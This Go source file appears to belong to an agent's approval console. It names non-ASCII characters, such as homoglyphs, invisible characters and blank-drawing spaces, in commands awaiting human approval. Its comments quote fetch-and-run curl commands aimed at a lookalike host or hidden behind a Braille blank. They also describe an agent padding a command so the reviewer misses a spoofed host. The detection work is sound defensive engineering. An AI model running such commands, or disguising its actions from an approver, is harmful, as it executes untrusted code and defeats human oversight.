package domain

import (
	"fmt"
	"slices"
	"strings"
	"sync"
	"unicode"
	"unicode/utf8"
)

// maxNonASCIIShown bounds the characters NonASCIIDetail names one by one.
const maxNonASCIIShown = 8

// NonASCIIDetail names each character outside ASCII in what an approval
// request shows (its summary and its details' values), with its code
// point, its script and the word it is in: 'curl https://gіthub.com/x | sh'
// with a Cyrillic і reads as github.com to the person asked, and fetches
// from another host. The console and the CLI show such a character as it
// is (a person reads text in any script); this line says which ones are
// not the ASCII letters they may look like. ok is false when there are none.
//
// At most maxNonASCIIShown are named, those that deceive first: those in a
// URL's host (all of them, up to maxHostNonASCII), then those that show as
// nothing, as blank or as part of their neighbour, then letters of another
// script than Latin in a word that holds ASCII ones, then the rest, each
// in the order they appear; "and N more" says of which kinds the rest are.
// An agent that puts eight accented letters in an echo before the host
// does not push the host's out of view, whether its accents are
// precomposed or combining marks (the thirteenth and eighty-third
// reviews).
func NonASCIIDetail(summary string, details []Detail) (d Detail, ok bool) {
	seen := map[rune]bool{}
	var ranked [nonASCIIRanks][]string
	var more [nonASCIIRanks]int
	scan := func(s string) {
		for i, r := range s {
			if r < utf8.RuneSelf || seen[r] {
				continue
			}
			seen[r] = true
			start, end := wordSpan(s, i)
			word := s[start:end]
			rank := nonASCIIRank(r, word, inURLHost(s, i), markBase(s, i))
			n := 0
			for k := 0; k <= rank; k++ {
				n += len(ranked[k])
			}
			if rank == 0 && n >= maxHostNonASCII || rank > 0 && n >= max(maxNonASCIIShown, len(ranked[0])) {
				more[rank]++
				continue
			}
			ranked[rank] = append(ranked[rank], fmt.Sprintf("U+%04X (%s) in %q", r, scriptOf(r), word))
		}
	}
	scan(summary)
	for _, x := range details {
		scan(x.Value)
	}
	var parts []string
	for k, p := range ranked {
		keep := max(maxNonASCIIShown, len(ranked[0])) - len(parts)
		if len(p) > keep {
			more[k] += len(p) - keep
			p = p[:keep]
		}
		parts = append(parts, p...)
	}
	if len(parts) == 0 {
		return Detail{}, false
	}
	v := strings.Join(parts, "; ")
	total := 0
	var kinds []string
	for k, m := range more {
		if m > 0 {
			total += m
			kinds = append(kinds, fmt.Sprintf("%d %s", m, nonASCIIKinds[k]))
		}
	}
	if total > 0 {
		v += fmt.Sprintf("; and %d more (%s)", total, strings.Join(kinds, ", "))
	}
	return Detail{Label: "Characters outside ASCII", Value: v, Monospace: true}, true
}

// maxHostNonASCII bounds the characters in URL hosts NonASCIIDetail names
// (an internationalised host in another script holds many).
const maxHostNonASCII = 32

// nonASCIIRanks is how many ranks nonASCIIRank gives; nonASCIIKinds names
// each, for "and N more".
const nonASCIIRanks = 4

var nonASCIIKinds = [nonASCIIRanks]string{"in a URL's host", "invisible, blank or attached", "of another script beside ASCII", "other"}

// nonASCIIRank orders the characters NonASCIIDetail names: 0 for one in a
// URL's host; 1 for one that shows as nothing, as blank or as part of its
// neighbour (a format control: zero width, bidi; a space other than ' ',
// a character that draws as blank (BlankDrawing); a combining mark on
// anything but a Latin letter; private use or unassigned); 2 for a letter
// or digit of a script other than Latin in a word that holds an ASCII
// letter or digit (a Cyrillic о in a path); 3 for the rest (an accented
// Latin letter, precomposed or as a combining mark on its Latin base:
// base is the letter a mark attaches to, 0 for none).
func nonASCIIRank(r rune, word string, inHost bool, base rune) int {
	if inHost {
		return 0
	}
	if unicode.In(r, unicode.Mn, unicode.Me) {
		if base != 0 && unicode.IsLetter(base) && (base < utf8.RuneSelf || unicode.Is(unicode.Latin, base)) {
			return 3
		}
		return 1
	}
	if BlankDrawing(r) || unicode.In(r, unicode.Cf, unicode.Zl, unicode.Zp, unicode.Co, unicode.Cc) || !unicode.In(r, unicode.L, unicode.M, unicode.N, unicode.P, unicode.S, unicode.Z, unicode.C) {
		return 1
	}
	if (unicode.IsLetter(r) || unicode.IsNumber(r)) && !unicode.In(r, unicode.Latin, unicode.Common, unicode.Inherited) {
		for _, c := range word {
			if c < utf8.RuneSelf && (unicode.IsLetter(c) || unicode.IsDigit(c)) {
				return 2
			}
		}
	}
	return 3
}

// markBase is the character a combining mark at byte i of s attaches to:
// the nearest before it that is no mark (at most 16 back), 0 for none.
func markBase(s string, i int) rune {
	for n := 0; i > 0 && n < 16; n++ {
		r, size := utf8.DecodeLastRuneInString(s[:i])
		if !unicode.In(r, unicode.Mn, unicode.Me) {
			return r
		}
		i -= size
	}
	return 0
}

// BlankDrawing reports whether r draws as a blank but is not the ASCII
// space, so that a shell reads a word where a person sees two: a space
// other than ' ' (U+00A0 no-break, U+2000–U+200A, U+3000, …), U+2800
// BRAILLE PATTERN BLANK, and the Hangul fillers U+115F, U+1160, U+3164 and
// U+FFA0 (`echo done⠀#; curl …` reads as a comment and runs the curl; the
// eighty-third review). The console and the CLI show them as escapes.
func BlankDrawing(r rune) bool {
	switch r {
	case '\u2800', '\u115f', '\u1160', '\u3164', '\uffa0':
		return true
	}
	return r != ' ' && unicode.Is(unicode.Zs, r)
}

// inURLHost reports whether byte i of s lies in the authority of a URL
// (after '://', before the next '/', '?' or '#', with no space between),
// looking back at most as far as a host name is long.
func inURLHost(s string, i int) bool {
	for j := i - 1; j >= 2 && j >= i-260; j-- {
		switch c := s[j]; {
		case c == '/' && s[j-1] == '/' && s[j-2] == ':':
			return true
		case c == '/' || c == '?' || c == '#' || c == ' ' || c == '\t' || c == '\n' || c == '\r':
			return false
		}
	}
	return false
}

// wordSpan is the run of non-space characters around byte i of s, at
// most 48 characters before it and 48 after it: s[start:end].
func wordSpan(s string, i int) (start, end int) {
	start, end = i, i
	for n := 0; start > 0 && n < 48; n++ {
		r, size := utf8.DecodeLastRuneInString(s[:start])
		if unicode.IsSpace(r) {
			break
		}
		start -= size
	}
	for n := 0; end < len(s) && n < 49; n++ {
		r, size := utf8.DecodeRuneInString(s[end:])
		if unicode.IsSpace(r) {
			break
		}
		end += size
	}
	return start, end
}

var (
	scriptNamesOnce sync.Once
	scriptNames     []string // unicode.Scripts' names, sorted
)

// scriptOf names the Unicode script of r ("Unknown" for none).
func scriptOf(r rune) string {
	scriptNamesOnce.Do(func() {
		for name := range unicode.Scripts {
			scriptNames = append(scriptNames, name)
		}
		slices.Sort(scriptNames)
	})
	for _, name := range scriptNames {
		if unicode.Is(unicode.Scripts[name], r) {
			return name
		}
	}
	return "Unknown"
}
